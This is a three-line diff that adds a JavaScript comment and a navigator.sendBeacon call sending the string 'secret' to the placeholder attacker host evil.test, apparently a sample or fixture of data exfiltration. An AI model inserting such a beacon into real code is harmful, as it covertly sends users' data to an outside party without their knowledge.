@@ -1,0 +1,3 @@
+// A beacon.
+
+navigator.sendBeacon('http://evil.test/x', 'secret');
